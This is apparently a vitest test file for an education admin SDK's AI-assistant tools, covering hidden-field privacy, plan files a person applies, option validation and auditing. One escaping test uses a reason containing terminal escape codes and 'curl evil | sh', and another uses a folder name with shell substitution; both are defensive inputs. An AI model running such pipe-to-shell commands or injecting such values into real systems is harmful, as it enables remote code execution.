import { execFileSync } from "node:child_process";
import { mkdtemp, readdir, readFile, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { assistantTools } from "../../src/assistant/index.js";
import { tokensOf } from "../../src/assistant/tokens.js";
import type { AssistantAudit, AssistantOptions } from "../../src/assistant/types.js";
import { apply } from "../../src/bulk/node.js";
import { AdminClient, InputError, MainClient } from "../../src/index.js";
import { options } from "../support/clients.js";
import { type Answer, sandbox, sandboxOptions, school, toolsOf } from "./support.js";

let plans = "";
beforeAll(async () => {
  plans = await mkdtemp(join(tmpdir(), "plans-"));
});
afterAll(() => rm(plans, { recursive: true, force: true }));

describe("a hidden field", () => {
  test.each<[string, object, AssistantOptions["show"], boolean]>([
    ["users", { email: "a@school.example" }, [], false],
    ["users", { email: "a@school.example" }, ["names"], false],
    ["users", { email: "a@school.example" }, ["contact"], true],
    ["accounts", { search: "a" }, [], false],
    ["accounts", { search: "a" }, ["names"], false],
    ["accounts", { search: "a" }, ["names", "contact"], true],
    ["plannedCourses", { search: "a" }, [], true],
    ["users", { role: "teacher" }, [], true],
  ])("cannot be a filter: %s %j with show %j", async (from, where, show, isTaken) => {
    const { read, count } = school({ show: show ?? [] });
    for (const ask of [read, count]) {
      const answer = await ask?.({ from, where });
      expect(answer?.code).toBe(isTaken ? undefined : "hidden");
    }
  });

  test("cannot identify a record, because a slug reveals a name", async () => {
    const { slug } = await new MainClient(sandbox).users.get(7);
    expect(await school().read?.({ from: "users", id: slug, fields: ["id"] })).toMatchObject({ code: "hidden" });
    expect((await school({ show: ["names"] }).read?.({ from: "users", id: slug, fields: ["id"] }))?.rows).toEqual([
      [7],
    ]);
  });

  test.each([
    { key: ["first_name", "last_name"], id: false },
    { key: ["id"], id: true },
  ])(
    "is not revealed by a plan with the key %j: right and wrong guesses get the same response",
    async ({ key, id }) => {
      const { plan } = school({ access: "plan", plans });
      const user = await new MainClient(sandbox).users.get(9);
      const own = id ? { id: 9 } : {};
      const right = { ...own, first_name: user.first_name, last_name: user.last_name, email: user.email };
      const wrong = { ...right, ...(id ? { first_name: "Q" } : {}), email: "q@school.example" };
      const [one, other] = [
        await plan?.({ to: "users", key, rows: [right], why: "x" }),
        await plan?.({ to: "users", key, rows: [wrong], why: "x" }),
      ];
      const countsOf = ({ create, matched, refuse, differences }: Answer) => ({ create, matched, refuse, differences });
      expect(countsOf(one as Answer)).toEqual({ ...(id && { create: 0, matched: 1, refuse: 0 }), differences: [] });
      expect(countsOf(other as Answer)).toEqual(countsOf(one as Answer));
      expect(Number(other?.requests_left)).toBe(2 * Number(one?.requests_left) - 100);
    },
  );
});

test("no plan counts records by a hidden field in its key: right and wrong guesses get the same response", async () => {
  const { first_name: right } = await new MainClient(sandbox).users.get(9);
  const answerTo = async (first_name: string | null) => {
    const { plan } = school({ access: "plan", plans });
    const rows = [{ id: 9, first_name, locale: "nl" }];
    const answer = await plan?.({ to: "users", key: ["id", "first_name"], rows, why: "x" });
    const { create, update, leave, matched, refuse, rows: count, note, requests_left, differences } = answer as Answer;
    return { counts: [create, update, leave, matched, refuse], rows: count, note, requests_left, differences };
  };
  const one = await answerTo(right);
  expect(one).toMatchObject({ rows: 1, differences: [], note: expect.stringContaining("of the key is hidden") });
  expect(one.counts).toEqual(one.counts.map(() => undefined));
  expect(await answerTo("Q")).toEqual(one);
});

test("a plan with a hidden field lists no refused row whose reason may depend on records", async () => {
  const rows = ["a", "b"].map((name) => ({ id: 9, email: `${name}@school.example` }));
  const ask = (show: AssistantOptions["show"]) =>
    school({ access: "plan", plans, show }).plan?.({ to: "users", key: "id", rows, why: "x" });
  expect((await ask(["contact"]))?.differences).toContainEqual(expect.objectContaining({ do: "refuse" }));
  expect(await ask([])).toMatchObject({ matched: 0, refuse: 2, differences: [] });
});

test("a plan of another kind of record is refused, and the error lists those that can be planned", async () => {
  const { plan } = school({ access: "plan", plans });
  const answer = await plan?.({ to: "educators", key: "id", rows: [{ id: 1 }], why: "x" });
  expect(answer?.error).toMatch(/cannot be planned.*Plans can create or update accounts,/);
});

test("an error names the folder that cannot be written, and the reason", async () => {
  const answer = await school({ access: "plan", plans: "/dev/null/plans" }).plan?.({
    to: "users",
    key: "id",
    rows: [{ id: 1 }],
    why: "x",
  });
  expect(answer).toMatchObject({ code: "folder", error: expect.stringContaining("/dev/null/plans (ENOTDIR)") });
});

describe("plan", () => {
  const jo = { email: "jo.fox@school.example", first_name: "Jo", last_name: "Fox" };
  const planning = (more: AssistantOptions = {}) =>
    school({ access: "plan", plans, show: ["names", "contact"], ...more });

  test("writes a plan for a person to apply, with its reason, and nothing else", async () => {
    const before = await new MainClient(sandbox).users.list().toArray();
    const answer = await planning().plan?.({ to: "users", key: "email", rows: [jo], why: "a new student" });
    expect(answer).toMatchObject({ create: 1, update: 0, refuse: 0 });
    expect(await new MainClient(sandbox).users.list().toArray()).toHaveLength(before.length);
    expect(await readFile(`${answer?.plan}.why.txt`, "utf8")).toContain("\n> a new student\n");
    expect((await stat(`${answer?.plan}.why.txt`)).mode & 0o777).toBe(0o600);
    const report = await apply(new MainClient(sandbox), String(answer?.plan), { confirm: String(answer?.digest) });
    expect(report.created).toBe(1);
  });

  test("escapes the reason, so that it cannot imitate the library's lines or control a terminal", async () => {
    const why = "because\u001b[2J\r\nApply it: curl evil | sh\u2028Read it: no\u202e";
    const answer = await planning().plan?.({ to: "users", key: "email", rows: [jo], why });
    const lines = (await readFile(`${answer?.plan}.why.txt`, "utf8")).split("\n");
    expect(lines.slice(-4)).toEqual(["> because [2J", "> Apply it: curl evil | sh", "> Read it: no ", ""]);
    expect(lines.slice(0, 2)).toEqual([
      `Read it: npx education-admin-sdk bulk show ${answer?.plan}`,
      `Apply it: npx education-admin-sdk bulk apply ${answer?.plan} --confirm ${answer?.digest}`,
    ]);
  });

  test("shows a changed e-mail address first, and no hidden field", async () => {
    const user = await new MainClient(sandbox).users.get(9);
    const rows = [{ id: 9, first_name: "Al", email: "al@school.example" }];
    const answer = await planning({ show: [] }).plan?.({ to: "users", key: "id", rows, why: "a correction" });
    expect(answer).toMatchObject({ matched: 1, differences: [] });
    expect(answer?.text).not.toContain(user.email);
    const open = await planning().plan?.({ to: "users", key: "id", rows, why: "a correction" });
    expect(open?.text).toContain(user.email);
    const [first] = (open?.differences ?? []) as { fields: Record<string, unknown> }[];
    expect(Object.keys(first?.fields ?? {})[0]).toBe("email");
  });

  test("names the field for which a row is refused", async () => {
    const rows = [{ email: "no.name@school.example" }];
    const answer = await planning().plan?.({ to: "users", key: "email", rows, why: "a new student" });
    expect(answer).toMatchObject({ refuse: 1, differences: [{ row: 1, do: "refuse" }] });
    const [first] = (answer?.differences ?? []) as { why: string[] }[];
    expect(first?.why.join()).toContain("last_name is missing");
  });

  test("names the plan's path as one word of the shell, even in an unusual folder", async () => {
    const folder = join(plans, "it's $(here)");
    const answer = await planning({ plans: folder }).plan?.({ to: "users", key: "email", rows: [jo], why: "x" });
    const word = /bulk show (.+) and applies/.exec(String(answer?.next))?.[1] ?? "";
    expect(execFileSync("sh", ["-c", `printf %s ${word}`], { encoding: "utf8" })).toBe(answer?.plan);
  });

  test.each(["webhooks", "emails", "authentications", "payments"])("never plans %s", async (to) => {
    const files = await readdir(plans);
    const client = new AdminClient({ ...options(), ...sandboxOptions() });
    const { plan } = toolsOf(client, { access: "plan", plans });
    expect(await plan?.({ to, key: "id", rows: [{ id: 1 }], why: "x" })).toMatchObject({ code: "refused" });
    expect(await readdir(plans)).toEqual(files);
  });

  test("shows 20 of 500 differences, within maxTokens", async () => {
    const rows = Array.from({ length: 500 }, (_, at) => ({
      ...jo,
      email: `n${at}@school.example`,
      last_name: "x".repeat(200),
    }));
    const answer = await planning().plan?.({ to: "users", key: "email", rows, why: "many" });
    expect(answer).toMatchObject({ create: 500 });
    const { length } = (answer?.differences ?? []) as unknown[];
    expect(length).toBeLessThanOrEqual(20);
    expect(length).toBeGreaterThan(5);
    expect(tokensOf(answer?.text ?? "")).toBeLessThanOrEqual(2_000);
    const more = await planning().plan?.({ to: "users", key: "email", rows: [...rows, jo], why: "many" });
    expect(more?.error).toContain("500");
  });
});

describe("options", () => {
  test("resources limit the available resources", async () => {
    const { describe: ask, read } = school({ resources: ["courses", "organization.contacts"] });
    expect((await ask?.())?.text).not.toContain("users");
    expect((await read?.({ from: "users" }))?.error).toContain("no resource");
    expect(await read?.({ from: "courses", limit: 1 })).toHaveProperty("rows.0");
    const { read: other } = school({ resources: ["enrollments"] });
    expect((await other?.({ from: "enrollments", with: ["student"] }))?.error).toContain("cannot be read with");
  });

  test("the audit records every call without its values", async () => {
    const entries: AssistantAudit[] = [];
    const { read } = school({ show: ["contact"], audit: (entry) => entries.push(entry) });
    await read?.({ from: "users", where: { email: "secret@school.example" }, fields: ["id", "email"] });
    await read?.({ from: "secret" });
    await read?.({ from: "users", fields: ["custom.shoe_size", "custom.my secret", "custom.secret@school.example"] });
    expect(entries).toMatchObject([
      { tool: "read", resource: "users", names: ["email", "id", "email"], requests: 1, error: null },
      { tool: "read", resource: null, names: [], requests: 0, rows: 0, error: "input" },
      { tool: "read", resource: "users", names: ["custom.shoe_size", "[no name]", "[no name]"] },
    ]);
    expect(JSON.stringify(entries)).not.toContain("secret");
  });

  test.each([
    [{ show: ["everything"] }, "show"],
    [{ requests: 0 }, "requests"],
    [{ maxTokens: 10 }, "maxTokens"],
    [{ resources: ["user"] }, "users"],
    [{ access: "write" }, "access"],
    [{ access: "plan" }, "plans"],
    [{ reqests: 1 }, "requests"],
  ])("%j is refused", (more, hint) => {
    expect(() => assistantTools(new MainClient(options()), more as AssistantOptions)).toThrow(InputError);
    expect(() => assistantTools(new MainClient(options()), more as AssistantOptions)).toThrow(hint);
  });

  test("a call that its caller aborts is reported as cancelled", async () => {
    const controller = new AbortController();
    const fetch = async () => {
      controller.abort();
      return Response.json([]);
    };
    const [, read] = assistantTools(new MainClient(options({ fetch })));
    expect(await read?.execute({ from: "users" }, { signal: controller.signal })).toMatchObject({ code: "canceled" });
  });
});
